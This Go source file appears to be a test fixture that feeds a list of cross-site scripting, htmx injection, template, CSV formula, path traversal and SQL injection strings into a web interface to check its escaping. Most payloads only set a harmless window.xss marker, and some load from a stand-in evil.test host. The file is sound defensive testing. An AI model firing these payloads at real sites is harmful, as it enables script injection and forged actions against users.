package browser

import "strings"

// hostileStrings are what somebody might type into a name, a title or a note so
// that it runs, loads or forges something where it is shown. Whatever runs sets
// window.xss; whatever loads asks for an address with xss in it.
func hostileStrings() []string {
	var all []string
	for line := range strings.Lines(hostileLines) {
		if line = strings.TrimSpace(line); line != "" {
			all = append(all, line)
		}
	}
	// What cannot be seen in a source file.
	return append(all,
		"\u202e<script>window.xss=1</script>", "\u202dgpj.exe\u202c invoice", "Asha\u200bRao\u200c\u200d", "\ufeffAsha", "a\u2066b\u2069c", "\u200f\u200e\u061cname",
		"<scr\u200bipt>window.xss=1</scr\u200bipt>", "\uff1cscript\uff1ewindow.xss=1\uff1c/script\uff1e", "<\u017fcript>window.xss=1</\u017fcript>", "<img\u00a0src=x\u00a0onerror=window.xss=1>",
		"<img\u3000src=/xss>", "\u02bascript\u02ba", "\u00e9\u0302\u0303\u0304\u0305\u0306\u0307\u0308 zalgo", "\U0001f469\u200d\U0001f469\u200d\U0001f467 <b>family</b>", "\ufffd\ufffe<svg/onload=window.xss=1>",
	)
}

const hostileLines = `
<script>window.xss=1</script>
</script><script>window.xss=1</script>
<SCRIPT SRC=//evil.test/xss.js></SCRIPT>
<script src="/static/app.js?xss"></script>
<script type=module>window.xss=1</script>
<script type="text/template">xss</script>
<scr<script>ipt>window.xss=1</scr</script>ipt>
<script/x>window.xss=1</script>
<script nonce>window.xss=1</script>
<script nonce="">window.xss=1</script>
<script nonce="AAAAAAAAAAAAAAAAAAAAAA">window.xss=1</script>
<script nonce='{{nonce}}'>window.xss=1</script>
<script nonce=undefined>window.xss=1</script>
<link rel=preload as=script href=/xss nonce=AAAAAAAAAAAAAAAAAAAAAA>
<img src=x onerror=window.xss=1>
<img src=/xss-image>
<img srcset="/xss-a 1x, /xss-b 2x">
<img/src=x/onerror=window.xss=1>
<img src=x onerror="window.xss=1"
<img src="//evil.test/xss?
<img src='x' onerror=&#119;indow.xss=1>
<IMG """><SCRIPT>window.xss=1</SCRIPT>">
<image src=/xss-image2 onerror=window.xss=1>
<picture><source srcset=/xss-source><img></picture>
"><img src=x onerror=window.xss=1>
'><img src=x onerror=window.xss=1>
" onmouseover="window.xss=1" x="
' onfocus='window.xss=1' autofocus='
" autofocus onfocus=window.xss=1 x="
" style="background:url(/xss-style)" x="
" class="toast" data-priority="critical" x="
" hx-get="/xss-attr" hx-trigger="load" x="
' hx-get='/xss-attr2' hx-trigger='load' x='
" id="live" hx-sse:connect="/xss-live" x="
"/><script>window.xss=1</script>
<a href="javascript:window.xss=1">x</a>
<a href=JaVaScRiPt:window.xss=1>x</a>
<a href="java&#x09;script:window.xss=1">x</a>
<a href="data:text/html,<script>window.xss=1</script>">x</a>
<a href="vbscript:xss">x</a>
<a ping=/xss-ping href=/xss>x</a>
javascript:window.xss=1
javascript://%0awindow.xss=1
JAVASCRIPT:window.xss=1//
data:text/html;base64,PHNjcmlwdD54c3M8L3NjcmlwdD4=
//evil.test/xss
https://evil.test/xss
<base href=//evil.test/xss/>
<meta http-equiv=refresh content="0;url=/xss-meta">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<link rel=stylesheet href=/xss.css>
<link rel=import href=/xss-import>
<link rel=prefetch href=//evil.test/xss>
<link rel=dns-prefetch href=//xss.evil.test>
<style>@import '/xss-import.css'</style>
<style>body{background:url(/xss-body)}</style>
<div style="background:url(/xss-div)">x</div>
<div style=position:fixed;inset:0;background:red>over everything</div>
<iframe src=/xss-frame></iframe>
<iframe srcdoc="<script>parent.window.xss=1</script>"></iframe>
<iframe src="javascript:parent.xss=1"></iframe>
<frameset><frame src=/xss-frame2></frameset>
<object data=/xss-object></object>
<embed src=/xss-embed>
<applet code=xss></applet>
<video src=/xss-video onerror=window.xss=1></video>
<video poster=/xss-poster></video>
<audio src=/xss-audio autoplay></audio>
<input type=image src=/xss-input>
<body onload=window.xss=1>
<html onclick=window.xss=1>
<details open ontoggle=window.xss=1><summary>x</summary></details>
<select autofocus onfocus=window.xss=1>
<textarea autofocus onfocus=window.xss=1>
<keygen autofocus onfocus=window.xss=1>
<marquee onstart=window.xss=1>x</marquee>
<form action=/xss-form><button>x</button></form>
<form><button formaction=javascript:window.xss=1>x</button></form>
<form id=logout method=post action=/logout></form>
<button form=test onformchange=window.xss=1>x</button>
<isindex action=javascript:window.xss=1 type=image>
<dialog open onclose=window.xss=1>x</dialog>
<portal src=/xss-portal></portal>
<math><mtext></form><form><mglyph><style></math><img src onerror=window.xss=1>
<math href="javascript:window.xss=1">x</math>
<math><maction actiontype=statusline xlink:href=javascript:window.xss=1>x</maction></math>
<math><annotation-xml encoding="text/html"><script>window.xss=1</script></annotation-xml></math>
<svg onload=window.xss=1>
<svg/onload=window.xss=1>
<svg><script>window.xss=1</script></svg>
<svg><script href=/xss-svg.js /></svg>
<svg><animate onbegin=window.xss=1 attributeName=x dur=1s>
<svg><set attributeName=onmouseover to=window.xss=1>
<svg><a xlink:href="javascript:window.xss=1"><text y=9>x</text></a></svg>
<svg><use href="//evil.test/xss.svg#x"/></svg>
<svg><image href=/xss-svg-image></svg>
<svg><foreignObject><body onload=window.xss=1></foreignObject></svg>
<svg><style>*{background:url(/xss-svg-style)}</style></svg>
<svg><title><img src=x onerror=window.xss=1></title></svg>
</svg><img src=x onerror=window.xss=1>
<template><img src=x onerror=window.xss=1></template>
</template><img src=x onerror=window.xss=1>
<template shadowrootmode=open><img src=x onerror=window.xss=1></template>
<slot name=xss>x</slot>
<noscript><p title="</noscript><img src=x onerror=window.xss=1>">
</textarea><img src=x onerror=window.xss=1>
</title><script>window.xss=1</script>
</style><script>window.xss=1</script>
</noscript><script>window.xss=1</script>
</select><img src=x onerror=window.xss=1>
</table><img src=x onerror=window.xss=1>
</option></select><script>window.xss=1</script>
</li></ul></main><h1>Signed out</h1>
</bdi></span></div><div id=flash>forged</div>
</xmp><script>window.xss=1</script>
<plaintext>
<xmp><script>window.xss=1</script>
<!--<img src="--><img src=x onerror=window.xss=1>//">
--><script>window.xss=1</script>
<![CDATA[<script>window.xss=1</script>]]>
<?xml version="1.0"?><script>window.xss=1</script>
<!DOCTYPE html><script>window.xss=1</script>
<% window.xss=1 %>
<hx-partial hx-target="body" hx-swap="innerHTML"><h1>forged</h1></hx-partial>
</hx-partial><hx-partial hx-target="#main"><script>window.xss=1</script></hx-partial>
</hx-upsert><hx-partial hx-target=body hx-swap=beforeend><img src=/xss-partial></hx-partial>
<hx-upsert hx-target="#toasts" key="x"><div id=t class=toast>forged</div></hx-upsert>
<div hx-get=/xss-hx hx-trigger=load></div>
<div data-hx-get=/xss-data-hx data-hx-trigger=load></div>
<div hx-post=/logout hx-trigger=load></div>
<form hx-post=/notifications/read hx-trigger=load><input name=all value=true></form>
<div hx-on:load="window.xss=1"></div>
<div hx-on::after-swap="window.xss=1"></div>
<div hx-vals="js:{x: window.xss=1}" hx-get=/xss-vals hx-trigger=load></div>
<div hx-trigger="load[window.xss=1]" hx-get=/xss-filter></div>
<div hx-swap-oob="true" id="main">forged</div>
<div hx-swap-oob="innerHTML:body">forged</div>
<div hx-sse:connect="/xss-sse" hx-trigger=load></div>
<div hx-ext="sse" sse-connect="/xss-sse2"></div>
<div hx-boost=true><a href=/xss-boost>x</a></div>
<div hx-config='{"allowEval":true}'></div>
<meta name="htmx-config" content='{"inlineScriptNonce":"x"}'>
<div id="live">forged</div>
<input name=password type=password autofocus>
{{constructor.constructor('window.xss=1')()}}
${window.xss=1}
#{window.xss=1}
{% raw %}<script>window.xss=1</script>
<%= 7*7 %>{{7*7}}${7*7}
&lt;script&gt;window.xss=1&lt;/script&gt;
&#60;script&#62;window.xss=1&#60;/script&#62;
&amp;lt;b&amp;gt;
%3Cscript%3Ewindow.xss=1%3C/script%3E
\u003cscript\u003ewindow.xss=1\u003c/script\u003e
\x3cscript\x3ewindow.xss=1
'";window.xss=1;//
\';window.xss=1;//
</script/><svg><script>window.xss=1</script>
+ADw-script+AD4-window.xss=1+ADw-/script+AD4-
data: forged id: 1 event: bye
=HYPERLINK("http://evil.test/xss","click")
=cmd|' /C calc'!A0
@SUM(1+1)*cmd|' /C calc'!A0
../../../../etc/passwd
'; DROP TABLE events; --
<b>bold</b> & "quoted" 'apostrophe' <i>italic
`
